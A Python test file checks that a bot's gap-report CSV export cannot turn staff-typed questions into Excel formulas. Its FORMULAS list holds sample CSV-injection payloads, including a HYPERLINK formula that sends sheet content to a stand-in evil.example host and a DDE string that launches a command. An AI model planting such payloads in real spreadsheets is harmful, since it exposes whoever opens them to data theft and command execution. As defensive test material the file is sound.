"""Review: the gap report's CSV is opened in Excel by an admin, and it carries questions any
member of staff typed. A question starting with "=", "+", "-" or "@" is a formula there (CSV
injection: ``=HYPERLINK(...)`` that sends the sheet's content elsewhere, DDE)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from bot.directory import Directory
from bot.gaps import gap_report, write_csv
from bot.state import State
from tests.bot.directory.test_gaps import DOCS, MONDAY

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Hilfe")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)"]


def test_questions_cannot_become_formulas_in_excel(fixture_dir: Path, tmp_path: Path) -> None:
    state = State(tmp_path / "state.sqlite")
    for question in FORMULAS:
        state.record_unanswered(question, "u")
    report = gap_report(Directory.load(fixture_dir, DOCS), MONDAY, DOCS, state=state)
    out = io.StringIO()
    write_csv(report, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue()), delimiter=";")
             for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
